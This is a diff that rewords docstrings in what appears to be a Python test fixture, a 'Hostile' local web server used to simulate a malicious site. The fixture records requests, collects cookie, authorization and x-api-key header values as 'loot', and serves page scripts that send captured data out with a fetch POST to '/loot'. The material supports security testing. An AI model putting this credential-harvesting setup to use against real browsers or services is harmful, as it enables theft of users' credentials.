@@ -1,4 +1,4 @@
-"""A web server of somebody else on this machine: another port of the host that the user's browser visits."""
+"""A hostile web server on this machine, at another port of the host that the user's browser visits."""
 
 from __future__ import annotations
 
@@ -21,7 +21,7 @@ CREDENTIALS = ("cookie", "authorization", "x-api-key")
 
 
 class Hostile:
-    """Keeps every request that it gets, and answers any of them: with a page of `page`, else with 200 and nothing."""
+    """Hostile web server that records every request, and answers with a page made by `page`, else with an empty 200."""
 
     def __init__(self) -> None:
         self._pages: dict[str, bytes] = {}
@@ -35,15 +35,16 @@ class Hostile:
 
     @property
     def loot(self) -> list[str]:
-        """What it can try elsewhere: the values of all headers that hold credentials, and the bodies of what its pages
+        """Credentials that it has collected: the values of all headers that hold them, and the bodies that its pages
         have sent to `/loot`."""
         headers = [value for one in self.requests for name, value in one.headers if name.lower() in CREDENTIALS]
         return headers + [one.body.decode("utf-8", "replace") for one in self.requests if one.target == "/loot"]
 
     def page(self, script: str = "", body: str = "", *, host: str = "127.0.0.1") -> str:
-        """Return the address of a new page with this script, at the end of this body. `host`: a name of this machine.
+        """Return the address of a new page with this body, and this script at its end. `host`: a name of this machine.
 
-        What the script gets, it reports with `fetch("/loot", {method: "POST", body: …})`."""
+        The script reports what it gets with `fetch("/loot", {method: "POST", body: …})`.
+        """
         path = f"/page-{next(self._numbers)}"
         self._pages[path] = PAGE.format(body=body, script=script).encode()
         return self.at(path, host=host)
